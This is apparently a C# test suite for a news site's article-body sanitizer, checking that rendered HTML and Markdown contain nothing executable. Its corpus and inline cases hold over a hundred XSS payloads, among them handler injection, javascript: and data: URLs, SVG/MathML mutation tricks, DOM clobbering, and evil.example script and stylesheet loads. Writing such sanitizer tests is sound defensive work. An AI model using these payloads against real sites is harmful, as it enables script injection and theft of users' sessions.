using Pressroom.Articles;
using Pressroom.Site.Body;

namespace Pressroom.Tests.Site.Body;

public sealed class HostileHtmlTests
{
    private static readonly Uri SiteUrl = new("https://example.org");

    /// <summary>Payloads of the usual collections, one a line: handlers, schemes, encodings, foreign content, mutations, clobbering.</summary>
    public static TheoryData<string> Payloads() => [.. Corpus.Split('\n', StringSplitOptions.RemoveEmptyEntries)];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Hostile_html_comes_out_harmless(string payload)
    {
        foreach (var format in new[] { BodyFormat.Html, BodyFormat.Markdown })
        {
            foreach (var body in new[] { payload, $"<p>before {payload}</p> after", $"before\n\n{payload}\n\nafter", $"<table><tr><td>{payload}", $"<ul><li>{payload}" })
            {
                var html = ArticleBody.Render(body, format, Samples.French, SiteUrl).Html;
                SafeHtml.Check(html);
                Assert.Equal(html, ArticleBody.Render(html, BodyFormat.Html, Samples.French, SiteUrl).Html);
            }
        }
    }

    [Theory]
    [InlineData("[a](javascript:alert(1))")]
    [InlineData("[a](JaVaScRiPt:alert(1))")]
    [InlineData("[a](java\u0001script:alert(1))")]
    [InlineData("[a](&#106;avascript:alert(1))")]
    [InlineData("[a](data:text/html;base64,PHNjcmlwdD4=)")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("[a]: javascript:alert(1)\n\n[a]")]
    [InlineData("![a](javascript:alert(1) \"title\")")]
    [InlineData("![a\" onerror=\"alert(1)](x.png)")]
    [InlineData("[a](https://example.com \"x\" onclick=\"alert(1)\")")]
    [InlineData("[a](https://example.com/\"onmouseover=\"alert(1))")]
    [InlineData("```<script>alert(1)</script>\nx\n```")]
    [InlineData("```x\" onclick=\"alert(1)\nx\n```")]
    [InlineData("# a {onclick=alert(1)}")]
    [InlineData("a[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: b")]
    [InlineData("|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|")]
    [InlineData("^^^ <b onclick=alert(1)>caption</b>\nx\n^^^")]
    public void Hostile_Markdown_comes_out_harmless(string markdown)
    {
        SafeHtml.Check(ArticleBody.Render(markdown, BodyFormat.Markdown, Samples.French, SiteUrl).Html);
    }

    [Fact]
    public void Text_beside_what_is_removed_stays()
    {
        var html = ArticleBody.Render("<p>one<script>alert(1)</script> <font color=red>two</font><style>p{}</style> <x-y>three</x-y></p><section>four</section>", BodyFormat.Html, Samples.French, SiteUrl).Html;

        Assert.Equal("<p>one two three</p><div>four</div>", html);
    }

    [Fact]
    public void An_id_or_name_cannot_stand_in_for_the_pages_own()
    {
        var html = ArticleBody.Render("<p id=content name=body>x</p><a id=getElementById name=y href='#content'>y</a><img name=cookie src=/a.png>", BodyFormat.Html, Samples.French, SiteUrl).Html;

        Assert.Equal("<p id=\"text-content\">x</p><a href=\"#text-content\" id=\"text-getElementById\">y</a><img src=\"https://example.org/a.png\" alt=\"\" loading=\"lazy\" decoding=\"async\">", html);
    }

    [Fact]
    public void Two_elements_never_have_the_same_id()
    {
        var html = ArticleBody.Render("<h2>Un</h2><h2>Un</h2><p id=text-un-2>x</p><p id=a>x</p><p id=a>y</p><p id='b c'>z</p>", BodyFormat.Html, Samples.French, SiteUrl).Html;

        Assert.Equal("<h2 id=\"text-un\">Un</h2><h2 id=\"text-un-3\">Un</h2><p id=\"text-un-2\">x</p><p id=\"text-a\">x</p><p>y</p><p>z</p>", html);
    }

    [Theory]
    [InlineData("> ", 5_000, BodyFormat.Markdown)]
    [InlineData("[", 500_000, BodyFormat.Markdown)]
    [InlineData("*a _", 100_000, BodyFormat.Markdown)]
    [InlineData("[a](", 250_000, BodyFormat.Markdown)]
    [InlineData("http://a.example ", 60_000, BodyFormat.Markdown)]
    [InlineData("<div>", 200_000, BodyFormat.Html)]
    [InlineData("<li><dd>", 100_000, BodyFormat.Html)]
    [InlineData("<b><i>", 100_000, BodyFormat.Html)]
    [InlineData("<p>x</p>", 100_000, BodyFormat.Html)]
    public void Input_that_would_cost_minutes_is_refused_with_a_reason(string part, int times, BodyFormat format)
    {
        var refused = Assert.Throws<FormatException>(
            () => ArticleBody.Render(string.Concat(Enumerable.Repeat(part, times)), format, Samples.French, SiteUrl));

        Assert.EndsWith(".", refused.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Control_characters_and_broken_surrogates_do_not_come_through()
    {
        var html = ArticleBody.Render("<p title='\u0007'>a\u0001b\0c\ud800d&#7;e&#xFFFF;f\u0085g</p>", BodyFormat.Html, Samples.French, SiteUrl).Html;

        Assert.DoesNotContain(html, c => char.IsControl(c) || (char.IsSurrogate(c) && html.Length > 0) || c is '\uFFFF');
        Assert.Contains("d", html, StringComparison.Ordinal);
    }

    private const string Corpus = """
        <script>alert(1)</script>
        <SCRIPT SRC=//evil.example/x.js></SCRIPT>
        <script>alert(1)
        <scr<script>ipt>alert(1)</scr</script>ipt>
        <script/src=data:,alert(1)>
        <img src=x onerror=alert(1)>
        <img src="x` `<script>alert(1)</script>"` `>
        <img src=javascript:alert(1)>
        <img/onerror=alert(1)/src=x>
        <img src='x'onerror='alert(1)'>
        <img src=x:alert(alt) onerror=eval(src) alt=1>
        <img srcset="javascript:alert(1) 1x, https://e.example/x 2x">
        <img src="data:image/svg+xml;base64,PHN2Zz4=">
        <image src=x onerror=alert(1)>
        <picture><source srcset=x onerror=alert(1)><img src=x onerror=alert(1)></picture>
        <svg onload=alert(1)>
        <svg><script>alert(1)</script></svg>
        <svg><script xlink:href=data:,alert(1)></script></svg>
        <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
        <svg><animate onbegin=alert(1) attributeName=x dur=1s>
        <svg><set attributeName=href to=javascript:alert(1)>
        <svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x">
        <svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
        <svg><desc><script>alert(1)</script></desc></svg>
        <svg><style><img src=x onerror=alert(1)></style></svg>
        <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
        <svg><p><style><g title="</style><img src onerror=alert(1)>"></p></svg>
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
        <math><mtext><img src=x onerror=alert(1)></mtext></math>
        <math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
        <math href="javascript:alert(1)">x</math>
        <math><maction actiontype="statusline#http://e" xlink:href="javascript:alert(1)">x</maction></math>
        <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
        <math><mi><table><mglyph><style><math><img src=1 onerror=alert(1)></style>
        <noscript><p title="</noscript><img src=x onerror=alert(1)>">
        <noscript><img src=x onerror=alert(1)></noscript>
        <style><img src="</style><img src=x onerror=alert(1)//">
        <style>@import 'https://evil.example/x.css';</style>
        <style>*{background:url(javascript:alert(1))}</style>
        <p style="background:url(javascript:alert(1))">x</p>
        <p style="position:fixed;inset:0">x</p>
        <div style="width:expression(alert(1))">x</div>
        <template><script>alert(1)</script></template>
        <template><img src=x onerror=alert(1)></template>
        <xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
        <noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
        <noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>
        <iframe src=javascript:alert(1)></iframe>
        <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
        <iframe><img title="</iframe><img src onerror=alert(1)>"></iframe>
        <textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>
        <title><img title="</title><img src onerror=alert(1)>"></title>
        <plaintext><img src=x onerror=alert(1)>
        <listing>&lt;img src=x onerror=alert(1)&gt;</listing>
        <object data=javascript:alert(1)></object>
        <object><param name=src value=javascript:alert(1)></object>
        <embed src=javascript:alert(1)>
        <applet code=x></applet>
        <a href=javascript:alert(1)>x</a>
        <a href="java&#9;script:alert(1)">x</a>
        <a href="java&NewLine;script:alert(1)">x</a>
        <a href="&#1;javascript:alert(1)">x</a>
        <a href="javascript&colon;alert(1)">x</a>
        <a href=" &#14; javascript:alert(1)">x</a>
        <a href="JAVASCRIPT:alert(1)">x</a>
        <a href="vbscript:msgbox(1)">x</a>
        <a href="data:text/html,<script>alert(1)</script>">x</a>
        <a href="blob:https://example.org/1">x</a>
        <a href="file:///etc/passwd">x</a>
        <a href="\\evil.example\share">x</a>
        <a href="//evil.example">x</a>
        <a href="https://user:pass@evil.example">x</a>
        <a href="https:javascript:alert(1)">x</a>
        <a href=# onclick=alert(1)>x</a>
        <a href="x" target=_blank ping="https://evil.example">x</a>
        <a href="x" style="x" class="masthead skip">x</a>
        <a xlink:href="javascript:alert(1)">x</a>
        <base href="https://evil.example/">
        <link rel=stylesheet href=https://evil.example/x.css>
        <link rel=import href=data:text/html,x>
        <meta http-equiv=refresh content="0;url=javascript:alert(1)">
        <meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
        <form action=javascript:alert(1)><input type=submit></form>
        <form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
        <input onfocus=alert(1) autofocus>
        <isindex action=javascript:alert(1) type=image>
        <button onclick=alert(1)>x</button>
        <select><option><script>alert(1)</script></select>
        <select><style></select><img src=x onerror=alert(1)></style>
        <keygen autofocus onfocus=alert(1)>
        <video src=x onerror=alert(1)></video>
        <video><source onerror=alert(1)></video>
        <audio src=x onerror=alert(1)></audio>
        <details open ontoggle=alert(1)><summary>x</summary></details>
        <marquee onstart=alert(1)>x</marquee>
        <body onload=alert(1)>
        <html onclick=alert(1)>
        <frameset onload=alert(1)>
        <div onpointerover=alert(1) tabindex=0 autofocus>x</div>
        <div contenteditable onblur=alert(1)>x</div>
        <p onanimationstart=alert(1)>x</p>
        <p/onclick=alert(1)>x
        <p on click=alert(1)>x
        <p "onclick=alert(1)>x
        <x onclick=alert(1)>x</x>
        <custom-element onclick=alert(1) is=x>x</custom-element>
        <table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x
        <table><tr><td><table><caption><script>alert(1)</script>
        <table><a href=javascript:alert(1)><tr><td>x</a>
        <!--><script>alert(1)</script>-->
        <!-- --!><script>alert(1)</script> -->
        <![CDATA[<script>alert(1)</script>]]>
        <?xml version="1.0"?><script>alert(1)</script>
        <!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
        <a id=document><a id=document name=cookie>x
        <img name=body src=/x.png><form name=forms><input name=attributes></form>
        <p id=constructor class=__proto__>x</p>
        <bdo dir=rtl onclick=alert(1)>x</bdo>
        <q cite="javascript:alert(1)">x</q>
        <blockquote cite="data:text/html,x">x</blockquote>
        <time datetime="&quot; onclick=alert(1)">x</time>
        <ol start="1 onclick=alert(1)" type="x">
        <img src="x" alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">
        <img src="x" title='"><script>alert(1)</script>'>
        <p title="</p><script>alert(1)</script>" lang='"><script>' dir='"><script>'>x</p>
        <h1><h2><h3>x</h1></h3></h2>
        <p><p><b><p><i><b></p></i></b><a><table><a><td><a>
        <ul><li><ol><dd><li><section><li>x
        <b><table><td><i></table></b></i>x<pre>

        <pre>&#10;&#10;x</pre><dl><p>x<dt>y<div><dd>z</div></dl>
        <ruby>x<rt>y<rp>z<rt>w</ruby><summary>s</summary><details>d
        &lt;script&gt;alert(1)&lt;/script&gt;
        &#60;img src=x onerror=alert(1)&#62;
        <
        </
        <a
        <a href="
        <img src="x
        </p></div></body></html><script>alert(1)</script>
        """;
}
